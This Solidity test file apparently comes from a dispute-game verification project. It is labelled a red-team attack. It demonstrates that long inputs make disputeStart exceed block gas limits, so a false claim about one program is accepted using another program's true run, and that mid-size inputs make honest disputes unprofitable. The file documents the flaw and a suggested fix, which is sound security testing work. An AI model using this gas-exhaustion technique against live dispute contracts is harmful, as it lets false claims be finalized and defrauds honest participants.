// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {Test, console} from "forge-std/Test.sol";
import {stdJson} from "forge-std/StdJson.sol";
import {DisputeGame} from "../../src/game/DisputeGame.sol";
import {RV32IMClaimBinding} from "../../src/link/RV32IMClaimBinding.sol";
import {RV32IMOneStepArbitrator} from "../../src/rv32im/RV32IMOneStepArbitrator.sol";
import {RV32IMStepVerifier} from "../../src/rv32im/RV32IMStepVerifier.sol";
import {IArbitrator} from "../../src/interfaces/IArbitrator.sol";
import {IPhaseLink} from "../../src/interfaces/IPhaseLink.sol";
import {OutputCorrect} from "../../src/game/Errors.sol";

/// @notice ATTACK (red team): an RV32IM claim with a long input cannot be disputed on its start root,
///         so its start root - and with it the PROGRAM - is bound to nothing.
///         RV32IMClaimBinding.startRoot hashes the whole input tree in one call (~5.3k gas per input
///         byte, SECURITY.md "Measured": 4.3M for 784 bytes) and, unlike GraphClaimBinding, has no
///         `advance` to split it. A 32 KiB input (cheap: `claim` executes in ~0.48M gas) makes
///         `disputeStart` need ~159M gas (measured; 16 KiB: ~79M): more than the project's anvil block
///         (100M, protocol/chain/anvil.ts), the 30M the TS driver gives every transaction
///         (protocol/chain/backend.ts), a mainnet block (36M) and the 2^24 per-transaction cap of
///         EIP-7825. Already ~3.5 KiB exceed the 2^24 cap. The liar claims
///           program     mnist-i8.elf (the binding's programHash),
///           input       32 KiB of 0x01,
///           startRoot / finalRoot / steps / output   those of a DIFFERENT program's true run
///                       (echo_input.elf on its 20-byte input, bindings.json rv32im[0]).
///         disputeStart runs out of gas at any block-sized limit, disputeOutput reverts OutputCorrect
///         (the output is the one in the final root), and every step of the game is a true step of
///         echo_input from that start root, so any challenger loses. The claim "mnist-i8 on I outputs
///         O" is finalized ACCEPTED although mnist-i8 never ran.
///         Smallest fix: an incremental start-root derivation for RV32IMClaimBinding (as
///         GraphClaimBinding.advance: store partial input-tree roots per keccak(input), chunk by
///         chunk), or cap the input length at what one `disputeStart` can hash within a block
///         (checked at claim / publishInput), and price the move into the slot collateral.
contract LongInputClaimTest is Test {
    using stdJson for string;

    uint96 internal constant S = 4 ether;
    uint96 internal constant B = 0.1 ether;
    uint256 internal constant BLOCK_GAS = 100_000_000; // the project's anvil block gas limit (protocol/chain/anvil.ts)

    string internal bj;
    DisputeGame internal game;
    RV32IMClaimBinding internal binding;
    address internal liar = makeAddr("liar");
    address internal honest = makeAddr("honest");

    function setUp() public {
        bj = vm.readFile(string.concat(vm.projectRoot(), "/contracts/test/fixtures/bindings.json"));
        string memory p = ".rv32im[1]"; // mnist-i8.elf
        binding = new RV32IMClaimBinding(
            uint256(bj.readBytes32(string.concat(p, ".core0"))),
            uint256(bj.readBytes32(string.concat(p, ".mem0"))),
            uint256(bj.readBytes32(string.concat(p, ".code0")))
        );
        assertEq(binding.programHash(), bj.readBytes32(string.concat(p, ".programHash")));
        DisputeGame.PhaseConfig[] memory ph = new DisputeGame.PhaseConfig[](1);
        ph[0] = DisputeGame.PhaseConfig(
            3, 1, IArbitrator(address(new RV32IMOneStepArbitrator(new RV32IMStepVerifier()))), IPhaseLink(address(0))
        );
        game = new DisputeGame(DisputeGame.Config(S, B, 7500, 1 days, 1 hours, 30 minutes, 4), ph, binding);
    }

    function test_attack_longInput_startRootUndisputable_otherProgramAccepted() public {
        bytes memory input = new bytes(32 * 1024);
        for (uint256 i; i < input.length; ++i) {
            input[i] = 0x01;
        }
        string memory o = ".rv32im[0]"; // echo_input.elf's true run
        bytes32 start = bj.readBytes32(string.concat(o, ".startRoot"));
        bytes32 fin = bj.readBytes32(string.concat(o, ".finalRoot"));
        bytes32 output = bj.readBytes32(string.concat(o, ".output"));
        bytes memory opening = bj.readBytes(string.concat(o, ".opening"));
        uint64 steps = uint64(bj.readUint(string.concat(o, ".steps")));
        bytes32 ph = binding.programHash();
        vm.deal(liar, S);
        vm.prank(liar);
        uint256 g0 = gasleft();
        uint256 id = game.claim{value: S}(ph, input, output, start, fin, steps);
        console.log("claim execution gas (32 KiB input)", g0 - gasleft());

        // the output is the one the final root holds
        vm.expectRevert(abi.encodeWithSelector(OutputCorrect.selector, id, output));
        vm.prank(honest);
        game.disputeOutput(id, opening);

        // disputeStart would win (the start root is echo_input's, not mnist-i8's) ... given ~159M gas
        bytes memory cd = abi.encodeCall(DisputeGame.disputeStart, (id, input, ""));
        uint256 snap = vm.snapshotState();
        vm.prank(honest);
        g0 = gasleft();
        (bool ok,) = address(game).call(cd);
        uint256 need = g0 - gasleft();
        assertTrue(ok, "with unbounded gas the move wins");
        assertEq(uint8(game.claims(id).status), uint8(DisputeGame.ClaimStatus.Rejected));
        console.log("disputeStart gas needed", need);
        assertGt(need, BLOCK_GAS, "more than a block of the project's anvil");
        vm.revertToState(snap);

        // ... but no transaction can carry that: at a full block's gas it runs out
        vm.prank(honest);
        (ok,) = address(game).call{gas: BLOCK_GAS}(cd);
        assertFalse(ok, "out of gas within a block");
        assertEq(uint8(game.claims(id).status), uint8(DisputeGame.ClaimStatus.Pending));

        // nobody can reject it (every game step is a true echo_input step): accepted after the window
        vm.warp(block.timestamp + 1 hours + 1);
        game.finalizeClaim(id);
        assertEq(uint8(game.claims(id).status), uint8(DisputeGame.ClaimStatus.Accepted), "ATTACK: accepted");
        assertTrue(game.claims(id).programHash == ph, "as a claim about mnist-i8.elf");
    }

    /// @notice Below the block limit the move is possible but unpaid for its gas: with a 2 KiB input
    ///         the winning disputeStart costs the honest disputer more than the (1 - b) D it is paid
    ///         (SECURITY.md promises an honest party its gas at 50 gwei; it only discusses the graph
    ///         binding's long prompts). Threshold: (1 - b) D / 50 gwei = 5M gas, i.e. inputs above
    ///         ~1 KiB. A rational honest party then lets the false claim pass.
    function test_attack_midInput_disputeStartCostsMoreThanItPays() public {
        bytes memory input = new bytes(2 * 1024);
        for (uint256 i; i < input.length; ++i) {
            input[i] = 0x01;
        }
        string memory o = ".rv32im[0]";
        bytes32 start = bj.readBytes32(string.concat(o, ".startRoot"));
        bytes32 fin = bj.readBytes32(string.concat(o, ".finalRoot"));
        bytes32 output = bj.readBytes32(string.concat(o, ".output"));
        uint64 steps = uint64(bj.readUint(string.concat(o, ".steps")));
        bytes32 ph = binding.programHash();
        vm.deal(liar, S);
        vm.prank(liar);
        uint256 id = game.claim{value: S}(ph, input, output, start, fin, steps);
        bytes memory cd = abi.encodeCall(DisputeGame.disputeStart, (id, input, ""));
        uint256 cdGas;
        for (uint256 i; i < cd.length; ++i) {
            cdGas += cd[i] == 0 ? 4 : 16;
        }
        vm.prank(honest);
        uint256 g0 = gasleft();
        (bool ok,) = address(game).call(cd);
        uint256 gas = g0 - gasleft() + 21_000 + cdGas;
        assertTrue(ok);
        assertEq(uint8(game.claims(id).status), uint8(DisputeGame.ClaimStatus.Rejected));
        uint256 paid = game.credit(honest);
        console.log("disputeStart gas (2 KiB input, incl. intrinsic + calldata)", gas);
        console.log("cost at 50 gwei (wei)", gas * 50 gwei);
        console.log("paid (wei)           ", paid);
        assertEq(paid, 0.25 ether, "(1 - b) D");
        assertGt(gas * 50 gwei, paid, "ATTACK: the honest binding move loses money");
    }
}
